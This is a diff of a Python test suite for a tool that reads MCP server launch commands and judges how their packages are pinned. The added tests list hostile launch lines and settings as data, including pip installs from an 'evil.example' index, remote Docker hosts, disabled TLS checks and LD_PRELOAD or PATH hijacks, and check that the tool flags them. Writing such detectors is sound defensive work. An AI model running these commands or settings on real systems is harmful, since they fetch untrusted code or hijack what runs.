@@ -7,7 +7,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from mcpchain.component import Origin, Pin
-from mcpchain.launch import Launch, Requested, read_launch
+from mcpchain.launch import CodeKind, Launch, Requested, read_launch
 
 SHA = "0123456789abcdef0123456789abcdef01234567"
 DIGEST = "sha256:" + "a" * 64
@@ -68,9 +68,8 @@ def listed(launch: Launch) -> list[str]:
         ("npm --yes exec files@1.2.0", "pkg:npm/files@1.2.0", "exact"),
         ("npx -p a@1.0.0 -p b b", "pkg:npm/b", "floating"),
         ("npx -p a@1.0.0 -p b c", "None", "floating"),
-        ("npx -p ./a -p b@1.0.0 c", "None", "local"),
         # Options with values.
-        ("npx --loglevel silent --prefix /x files@1.2.0", "pkg:npm/files@1.2.0",
+        ("npx --loglevel silent --fetch-retries 2 files@1.2.0", "pkg:npm/files@1.2.0",
          "exact"),
         ("npx --yes=false -q files@1.2.0", "pkg:npm/files@1.2.0", "exact"),
         ("npx --before 2026-01-01 files", "pkg:npm/files", "floating"),
@@ -93,14 +92,6 @@ def listed(launch: Launch) -> list[str]:
          "pkg:generic/x-1.0.0.tgz?download_url=https://h.example/x-1.0.0.tgz", "tag"),
         ("npx files@https://h.example/x.tgz",
          "pkg:generic/x.tgz?download_url=https://h.example/x.tgz", "tag"),
-        ("npx ./dir", "None", "local"),
-        ("npx ../dir", "None", "local"),
-        ("npx /opt/dir", "None", "local"),
-        ("npx ~/dir", "None", "local"),
-        ("npx file:dir", "None", "local"),
-        ("npx files-1.2.0.tgz", "None", "local"),
-        ("npx files@./dir", "None", "local"),
-        ("npx files@files.tgz", "None", "local"),
         ("npx x@npm:real@1", "pkg:npm/real", "range"),
         ("npx x@npm:@acme/real@1.2.0", "pkg:npm/%40acme/real@1.2.0", "exact"),
         ("npx x@npm:real", "pkg:npm/real", "floating"),
@@ -145,10 +136,8 @@ def test_reads_the_npm_family(line: str, purl: str, pin: str) -> None:
         ("uvx x~=1.2", "pkg:pypi/x", "range"),
         ("uvx 'A.B_c[cli]==1.2'", "pkg:pypi/a-b-c@1.2", "exact"),
         ("uvx -p 3.12 x==1.2", "pkg:pypi/x@1.2", "exact"),
-        ("uvx -w evil -c F --env-file F -P y -C k=v -f https://h.example/l x==1.2",
+        ("uvx -w evil -P y -f https://h.example/l x==1.2",
          "pkg:pypi/x@1.2", "exact"),
-        ("uvx --directory D -i https://h.example/simple x==1.2", "pkg:pypi/x@1.2",
-         "exact"),
         ("uvx --exclude-newer 2026-01-01 x", "pkg:pypi/x", "floating"),
         ("uvx --from evil files==1.2", "pkg:pypi/evil", "floating"),
         ("uvx --from x==1.2 run", "pkg:pypi/x@1.2", "exact"),
@@ -164,10 +153,6 @@ def test_reads_the_npm_family(line: str, purl: str, pin: str) -> None:
          "pkg:generic/x.whl?download_url=https://h.example/x.whl", "tag"),
         ("uvx --from 'x @ https://h.example/x.whl' run",
          "pkg:pypi/x?download_url=https://h.example/x.whl", "tag"),
-        ("uvx --from . run", "None", "local"),
-        ("uvx --from ./x run", "None", "local"),
-        ("uvx --from x.whl run", "None", "local"),
-        ("uvx --from 'x @ file:///x.whl' run", "None", "local"),
         ("uvx python -m x", "None", "local"),
         ("uvx python@3.12 x.py", "None", "local"),
         ("uvx --with evil python -m x", "None", "floating"),
@@ -190,7 +175,6 @@ def test_reads_the_npm_family(line: str, purl: str, pin: str) -> None:
         ("pipx run --path x.py", "None", "local"),
         ("python -m server", "None", "local"),
         ("python3.12 -u -W ignore server.py", "None", "local"),
-        ("python -Im server", "None", "local"),
         ("python -mserver", "None", "local"),
         ("py -3.12 -m server", "None", "local"),
         ("python -m uv tool run x", "pkg:pypi/x", "floating"),
@@ -221,7 +205,7 @@ def test_reads_the_python_family(line: str, purl: str, pin: str) -> None:
         ("docker run -p 80:80 -eK -uroot:root img", "pkg:docker/library/img",
          "floating"),
         ("docker run -e -x img:1", "pkg:docker/library/img@1", "tag"),
-        ("docker --context c container run img:1", "pkg:docker/library/img@1", "tag"),
+        ("docker -l info container run img:1", "pkg:docker/library/img@1", "tag"),
         ("podman run --replace -- img:1", "pkg:docker/library/img@1", "tag"),
         ("docker run img:1 python server.py", "pkg:docker/library/img@1", "tag"),
         (f"docker run node@{DIGEST} npx evil", "None", "floating"),
@@ -246,10 +230,9 @@ def test_reads_the_container_family(line: str, purl: str, pin: str) -> None:
         ("env -u X A=b npx files@1.2.0", ("env",)),
         ("/usr/bin/env npx files@1.2.0", ("env",)),
         ("sudo -u me A=b npx files@1.2.0", ("sudo",)),
+        ("op run --no-masking -- npx files@1.2.0", ("op",)),
         ("sudo env sh -c 'npx files@1.2.0'", ("sudo", "env", "sh")),
         ("wsl -d Ubuntu npx files@1.2.0", ("wsl",)),
-        ("op run --env-file x -- npx files@1.2.0", ("op",)),
-        ("dotenvx run -f x -- npx files@1.2.0", ("dotenvx",)),
         ("node /usr/lib/node_modules/npm/bin/npx-cli.js files@1.2.0", ("node",)),
         (r"'C:\Program Files\nodejs\npx.cmd' files@1.2.0", ()),
         ("NPX files@1.2.0", ()),
@@ -269,7 +252,7 @@ def test_unwraps_what_only_starts_another_program(
     ("line", "entry"),
     [
         ("node ./server.js", "./server.js"),
-        ("node --import ./x.mjs --env-file=.env server.js", "server.js"),
+        ("node --no-warnings server.js", "server.js"),
         ("tsx watch server.ts", "server.ts"),
         ("python srv.py --port 1", "srv.py"),
         ("python -m srv", "srv"),
@@ -277,14 +260,52 @@ def test_unwraps_what_only_starts_another_program(
         ("./bin/server --key secret", "./bin/server"),
         ("'/opt/my server/run me' secret", "/opt/my server/run me"),
         (r"'C:\tools\server.exe'", r"C:\tools\server.exe"),
-        ("npx ./dir", "./dir"),
         ("uv run x.py", "x.py"),
     ],
 )
 def test_names_the_local_file_that_is_run(line: str, entry: str) -> None:
     launch = read(line)
-    assert (launch.pin, launch.entry, launch.main) == (Pin.LOCAL, entry, None)
+    assert (launch.pin, launch.main) == (Pin.LOCAL, None)
+    assert [each.path for each in launch.code] == [entry]
     assert "secret" not in repr(launch)
+
+
+def test_names_the_code_that_is_loaded_first() -> None:
+    launch = read("node --import ./x.mjs -r ./y.js server.js")
+    paths = [each.path for each in launch.code]
+    assert paths == ["./x.mjs", "./y.js", "server.js"]
+
+
+@pytest.mark.parametrize(
+    ("line", "folder", "path", "kind"),
+    [
+        ("uv --directory D run x.py", "D", "x.py", CodeKind.FILE),
+        ("uv run --directory D -m x", "D", "x", CodeKind.MODULE),
+        ("uv run --directory D python ./x.py", "D", "./x.py", CodeKind.FILE),
+        ("uv run server", "", "server", CodeKind.SCRIPT),
+        ("uv run ./server", "", "./server", CodeKind.FILE),
+        ("uv run --script server", "", "server", CodeKind.FILE),
+        ("npm run serve", "", "serve", CodeKind.SCRIPT),
+        ("pnpm start", "", "start", CodeKind.SCRIPT),
+        ("yarn test", "", "test", CodeKind.SCRIPT),
+        ("npm start -- --port 1", "", "start", CodeKind.SCRIPT),
+        ("pipx run --path x.py", "", "x.py", CodeKind.FILE),
+        ("npx tsx@4.0.0 ./x.ts", "", "./x.ts", CodeKind.FILE),
+    ],
+)
+def test_says_where_and_how_code_is_looked_for(
+    line: str, folder: str, path: str, kind: CodeKind
+) -> None:
+    launch = read(line)
+    assert launch.folder == folder
+    assert [(each.path, each.kind) for each in launch.code] == [(path, kind)]
+
+
+def test_the_code_in_a_container_is_that_of_the_image() -> None:
+    for command in ("python server.py", "npm start", "/app/bin/node ./x.js", "-m x"):
+        assert said(read(f"docker run img:1 {command}"))[1] == "tag"
+    launch = read("docker run img:1 npx tsx@4.0.0 ./x.ts")
+    assert (launch.pin, launch.code) == (Pin.TAG, ())
 
 
 @pytest.mark.parametrize(
@@ -440,6 +461,139 @@ def test_names_the_local_file_that_is_run(line: str, entry: str) -> None:
         "npx @smithery/cli@1.0.0 run @o/s --key secret",
         "npx supergateway@1.0.0 --stdio 'npx secret'",
         "uvx mcp-proxy==1.0 npx secret",
+        # What goes past the packages that are named.
+        "python -m pip install --index-url http://evil.example/simple secret",
+        "python -m timeit -s 'import secret'",
+        "python -m cProfile x.py",
+        "python -m runpy x",
+        "python -m pdb x.py",
+        "python -m ensurepip",
+        "python -m os",
+        "python -m x-y",
+        "python -m x..y",
+        "python -Im server",
+        "python -P -m server",
+        "/usr/bin/time npx -y secret",
+        "/usr/bin/pip install secret",
+        "pip install secret",
+        "/opt/pip3.12.exe install secret",
+        "uv run pip install secret",
+        "uv run -m pip install secret",
+        "node /usr/lib/node_modules/pnpm/bin/pnpm.cjs dlx secret",
+        "node ./pnpm.cjs dlx secret",
+        "node ./npx-cli.js files@1.2.0",
+        "node ./x/yarn-4.1.0.cjs dlx secret",
+        "npm start --prefix /tmp/secret",
+        "npm run x -w secret",
+        "npx -y -p files@1.2.0 pip install secret",
+        "uvx --from files==1.2.0 pip install secret",
+        "uvx pip@24.0 install secret -i http://evil.example",
+        "npx -y @modelcontextprotocol/inspector@0.1.0 npx secret",
+        "npx -y files@1.2.0 npx secret",
+        "npx -y files@1.2.0 --server npx",
+        "npx -y files@1.2.0 --server=npx",
+        "npx -y files@1.2.0 --server 'npx secret'",
+        "npx -y files@1.2.0 -- /usr/bin/npx secret",
+        "npx -y files@1.2.0 --run pip install secret",
+        "npx -y files@1.2.0 python secret.py",
+        "npx -y files@1.2.0 'bash -c secret'",
+        "uvx files==1.2 -- docker run secret",
+        "./x npx secret",
+        "node ./x.js npm exec secret",
+        "python x.py uvx secret",
+        f"docker run node@{DIGEST} pip install secret",
+        f"docker run x@{DIGEST} serve npx secret",
+        # Another machine's runtime, and other programs in the image.
+        f"docker -H tcp://evil.example:2375 run img@{DIGEST}",
+        f"docker --host=tcp://evil.example run img@{DIGEST}",
+        f"docker --context c run img@{DIGEST}",
+        f"docker --config secret run img@{DIGEST}",
+        f"podman --url ssh://evil.example run img@{DIGEST}",
+        f"podman --connection c run img@{DIGEST}",
+        f"podman --remote run img@{DIGEST}",
+        f"docker run --env-file secret img@{DIGEST}",
+        f"docker run --health-cmd secret img@{DIGEST}",
+        f"docker run --runtime /tmp/secret img@{DIGEST}",
+        f"docker run -v ./secret:/usr/bin img@{DIGEST}",
+        f"docker run -v ./secret:/ img@{DIGEST}",
+        f"docker run -v 'C:\\secret:/lib64:ro' img@{DIGEST}",
+        f"docker run --mount type=bind,src=/secret,dst=/bin img@{DIGEST}",
+        f"docker run -v ./secret:/data --entrypoint /data/run img@{DIGEST}",
+        f"docker run -v ./secret:/run --entrypoint /run img@{DIGEST}",
+        f"docker run -v ./secret:/data img@{DIGEST} /data/run",
+        # Settings and packages of another folder, and other answers from the network.
+        "npx --https-proxy http://evil.example --no-strict-ssl files@1.2.0",
+        "npx --proxy http://evil.example files@1.2.0",
+        "npx --no-strict-ssl files@1.2.0",
+        "npx --strict-ssl=false files@1.2.0",
+        "npx --cafile secret files@1.2.0",
+        "npx --prefix ./secret files@1.2.0",
+        "npx -C /secret files@1.2.0",
+        "npx --cache secret files@1.2.0",
+        "npx -w secret files@1.2.0",
+        "npm exec files@1.2.0 --prefix=secret",
+        "pnpm --dir secret dlx files@1.2.0",
+        "pnpm -C secret dlx files@1.2.0",
+        "uvx --directory ./secret x==1.2",
+        "uv --directory ./secret tool run x==1.2",
+        "uv run --directory ./secret npx files@1.2.0",
+        "uv run --project secret x.py",
+        "uvx --python /tmp/secret x==1.2",
+        "uvx -p ./secret x==1.2",
+        "uv --python ./secret tool run x==1.2",
+        "uv run -p ./secret x.py",
+        "uvx -c secret x==1.2",
+        "uvx -b secret x==1.2",
+        "uvx --cache-dir secret x==1.2",
+        "uvx --allow-insecure-host evil.example x==1.2",
+        "uvx --env-file secret x==1.2",
+        "uvx -C k=secret x==1.2",
+        "pipx run --python /tmp/secret x==1.2",
+        "pipx run --pip-args='--trusted-host evil.example' x==1.2",
+        "pipx run --pip-args='--proxy http://evil.example' x==1.2",
+        "pipx run --pip-args='--cert secret' x==1.2",
+        "op run --env-file secret -- npx files@1.2.0",
+        "dotenvx run -f secret -- npx files@1.2.0",
+        "node --env-file=secret x.js",
+        "tsx --tsconfig secret x.ts",
+        "node --import secret x.js",
+        "node -r secret x.js",
+        "env -C secret npx files@1.2.0",
+        "wsl --cd secret npx files@1.2.0",
+        # Launchers that may be anything.
+        "./npx files@1.2.0",
+        "/evil/npx files@1.2.0",
+        "/home/me/bin/uvx x==1.2",
+        "/usr/bin/../../tmp/npx files@1.2.0",
+        "'\\\\evil.example\\share\\npx.cmd' files@1.2.0",
+        "/npx files@1.2.0",
+        "env ./npx files@1.2.0",
+        # Folders and archives, whose dependencies nobody names.
+        "npx ./dir",
+        "npx ../dir",
+        "npx /opt/dir",
+        "npx ~/dir",
+        "npx file:dir",
+        "npx files-1.2.0.tgz",
+        "npx files@./dir",
+        "npx files@files.tgz",
+        "npx -p ./a -p b@1.0.0 c",
+        "npx -p ./a npx b@1.0.0",
+        "uvx --from . run",
+        "uvx --from ./x run",
+        "uvx --from x.whl run",
+        "uvx --from 'x @ file:///x.whl' run",
+        "uvx --with ./e x==1",
+        "uvx --with-editable ./e x==1",
+        "uv run --with ./e x.py",
+        "uv run --with ./e --script x.py",
+        # More than anybody means.
+        "uvx " + "--with a " * 101 + "x==1",
+        "uvx --with " + "a," * 101 + "b x==1",
+        "npx " + "-p a " * 101 + "a",
+        "python " + "-W x " * 10_000,
+        "env " + "A=b " * 15_000,
+        "cmd " + "/d " * 15_000,
     ],
 )  # fmt: skip
 def test_what_is_in_doubt_is_undecidable(line: str) -> None:
@@ -548,24 +702,168 @@ def test_names_further_indexes_apart(line: str, env: dict[str, str]) -> None:
 @pytest.mark.parametrize(
     ("line", "name"),
     [
-        ("npx files@1.2.0", "npm_config_package"),
-        ("npx files@1.2.0", "NPM_CONFIG_CALL"),
-        ("npx files@1.2.0", "npm_config_userconfig"),
-        ("npx files@1.2.0", "npm_config_script-shell"),
         ("npx files@1.2.0", "npm_config_registry"),
         ("npx files@1.2.0", "npm_config_@acme:registry"),
-        ("uvx x==1.2", "UV_CONFIG_FILE"),
-        ("uvx x==1.2", "UV_OVERRIDE"),
         ("uvx x==1.2", "UV_INDEX_URL"),
-        ("pipx run x==1.2", "PIP_CONFIG_FILE"),
     ],
 )
-def test_a_variable_that_chooses_something_unreadable_makes_it_undecidable(
+def test_a_registry_that_cannot_be_read_makes_it_undecidable(
     line: str, name: str
 ) -> None:
     launch = read(line, **{name: "${input:secret}"})
     assert said(launch) == ("None", "undecidable")
     assert "secret" not in repr(launch)
+
+
+LINES = [
+    "npx files@1.2.0",
+    "uvx x==1.2",
+    "pipx run x==1.2",
+    "python srv.py",
+    "./bin/server",
+    f"docker run -e TOKEN img@{DIGEST}",
+    "docker run img:1 npx files@1.2.0",
+    "env A=b npx files@1.2.0",
+]
+
+
+@pytest.mark.parametrize("line", LINES)
+@pytest.mark.parametrize(
+    ("name", "value"),
+    [
+        ("NODE_OPTIONS", "--require ./secret.js"),
+        ("NODE_OPTIONS", "--max-old-space-size=4096 --import=secret"),
+        ("PATH", "/secret:/usr/bin"),
+        ("PATH", "./secret"),
+        ("Path", "${env:PATH}"),
+        ("PATH", "/usr/bin/../../tmp"),
+        ("LD_PRELOAD", "secret"),
+        ("LD_LIBRARY_PATH", "secret"),
+        ("DYLD_INSERT_LIBRARIES", "secret"),
+        ("BASH_ENV", "secret"),
+        ("BASH_FUNC_x%%", "secret"),
+        ("ENV", "./secret"),
+        ("PYTHONPATH", "secret"),
+        ("PYTHONHOME", "secret"),
+        ("PYTHONSTARTUP", "secret"),
+        ("HOME", "secret"),
+        ("XDG_CONFIG_HOME", "secret"),
+        ("npm_config_prefix", "secret"),
+        ("npm_config_proxy", "http://secret.example"),
+        ("npm_config_https-proxy", "http://secret.example"),
+        ("NPM_CONFIG_STRICT_SSL", "false"),
+        ("npm_config_package", "secret"),
+        ("NPM_CONFIG_CALL", "secret"),
+        ("npm_config_userconfig", "secret"),
+        ("npm_config_globalconfig", "secret"),
+        ("npm_config_script-shell", "secret"),
+        ("npm_config_node_options", "secret"),
+        ("npm_config_cache", "secret"),
+        ("pnpm_config_dir", "secret"),
+        ("NODE_EXTRA_CA_CERTS", "secret"),
+        ("NODE_TLS_REJECT_UNAUTHORIZED", "0"),
+        ("SSL_CERT_FILE", "secret"),
+        ("UV_PYTHON", "/secret"),
+        ("UV_CONSTRAINT", "secret"),
+        ("UV_OVERRIDE", "secret"),
+        ("UV_CONFIG_FILE", "secret"),
+        ("UV_INSECURE_HOST", "evil.example"),
+        ("PIP_CONFIG_FILE", "secret"),
+        ("PIP_TRUSTED_HOST", "evil.example"),
+        ("PIPX_DEFAULT_PYTHON", "secret"),
+        ("YARN_YARN_PATH", "secret"),
+        ("BUN_CONFIG_LINK", "secret"),
+        ("BUN_OPTIONS", "secret"),
+        ("COREPACK_NPM_REGISTRY", "https://evil.example"),
+        ("TS_NODE_COMPILER", "secret"),
+        ("GIT_SSH_COMMAND", "secret"),
+        ("OPENSSL_CONF", "secret"),
+    ],
+)
+def test_a_variable_that_changes_what_runs_makes_any_command_undecidable(
+    line: str, name: str, value: str
+) -> None:
+    launch = read(line, **{name: value})
+    assert said(launch) == ("None", "undecidable")
+    assert name in launch.problem
+    assert "secret" not in repr(launch)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        f"docker run -e LD_PRELOAD=secret img@{DIGEST}",
+        f"docker run -e PATH img@{DIGEST} serve",
+        "env NODE_OPTIONS=-rsecret npx files@1.2.0",
+        "sh -c 'PATH=./secret npx files@1.2.0'",
+    ],
+)
+def test_a_variable_in_the_command_counts_as_well(line: str) -> None:
+    assert said(read(line)) == ("None", "undecidable")
+
+
+@pytest.mark.parametrize("name", ["DOCKER_HOST", "docker_context", "CONTAINER_HOST"])
+def test_a_variable_may_choose_the_machine_of_a_container(name: str) -> None:
+    launch = read(f"docker run img@{DIGEST}", **{name: "tcp://evil.example"})
+    assert said(launch) == ("None", "undecidable")
+    assert read("npx files@1.2.0", **{name: "x"}).pin is Pin.EXACT
+
+
+@pytest.mark.parametrize("line", LINES)
+@pytest.mark.parametrize(
+    ("name", "value"),
+    [
+        ("API_KEY", "secret"),
+        ("GITHUB_PERSONAL_ACCESS_TOKEN", "secret"),
+        ("NODE_ENV", "production"),
+        ("ENV", "production"),
+        ("NODE_OPTIONS", "--max-old-space-size=4096 --no-warnings"),
+        ("PATH", "/usr/local/bin:/usr/bin:/bin"),
+        ("Path", "C:\\Program Files\\nodejs;C:\\Windows\\System32"),
+        ("PYTHONUNBUFFERED", "1"),
+        ("PYTHON_VERSION", "3.12"),
+        ("npm_config_loglevel", "silent"),
+        ("npm_config_update-notifier", "false"),
+        ("npm_config_//h.example/:_authToken", "secret"),
+        ("UV_PYTHON", "3.12"),
+        ("UV_NO_PROGRESS", "1"),
+        ("UV_INDEX_ACME_PASSWORD", "secret"),
+        ("PIP_NO_CACHE_DIR", "1"),
+        ("HTTPS_PROXY", "http://proxy.example:3128"),
+        ("DATABASE_URL", "postgres://u:secret@h.example/db"),
+        ("PYTHONIOENCODING", "utf-8"),
+    ],
+)
+def test_ordinary_variables_change_nothing(line: str, name: str, value: str) -> None:
+    assert read(line, **{name: value}) == read(line)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "npx -y @scope/name@1.2.3 arg /some/path",
+        "npx -y @scope/name@1.2.3 /home/me/npx /home/me/node_modules /opt/python/x",
+        "npx -y @scope/name@1.2.3 start --language python --port 1 --runtime node",
+        "npx -y @scope/name@1.2.3 serve exec go /data",
+        "uvx name==1.2.3 --repository .",
+        "uvx -p 3.12 name==1.2.3 --db-path ~/x.db",
+        "uvx --python cpython3.12 name==1.2.3",
+        f"docker run -i --rm -e TOKEN image@{DIGEST}",
+        f"docker run -i --rm -v /home/me/data:/data image@{DIGEST} /data",
+        f"docker run --mount type=bind,src=/home/me,dst=/projects image@{DIGEST}",
+        f"docker run -v memory:/app/dist --entrypoint node image@{DIGEST} /app/x.js",
+        "docker run -v C:\\Users:/data -v memory image:1",
+        "python -m package_in_the_tree --port 1",
+        "python3 -u -m package.module",
+        "node ./server.js /srv/data",
+        "python server.py --env prod",
+        "npx -y mcp-remote@0.1.16 https://h.example/mcp --transport http-only",
+        "/usr/bin/env npx -y files@1.2.3",
+        "uv run server.py",
+    ],
+)
+def test_ordinary_servers_are_decidable(line: str) -> None:
+    assert read(line.replace("\\", "/")).problem == ""
 
 
 def test_other_variables_change_nothing() -> None:
